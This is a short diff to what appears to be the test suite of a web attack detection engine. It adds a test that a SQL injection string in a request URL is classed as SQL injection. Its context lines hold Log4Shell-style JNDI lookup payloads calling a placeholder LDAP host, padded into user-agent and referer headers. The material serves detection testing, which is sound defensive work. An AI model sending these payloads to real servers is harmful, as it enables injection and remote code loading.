@@ -51,6 +51,14 @@ test.each(paddings.flatMap(([what, padding]) => payloads.map((payload) => [what,
   },
 );
 
+test.each(["/item?id=1'+union+select+1,2--", "https://www.example.com/item?id=1'+union+select+1,2--"])(
+  'an attack is found where the log tells of no method: %s',
+  (target) => {
+    const request = requestOf({ method: '-', target });
+    expect(engine.conclude(request, engine.inspect(request)).classes[0]).toBe('SQL_INJECTION');
+  },
+);
+
 test.each([
   ['agent', { userAgent: `Mozilla/5.0 ${'compatible; '.repeat(500)} \${jndi:ldap://host.example/a}` }],
   ['referer', { referer: `https://www.example.com/?q=${WORDS.repeat(300)}&a=\${jndi:ldap://host.example/a}` }],
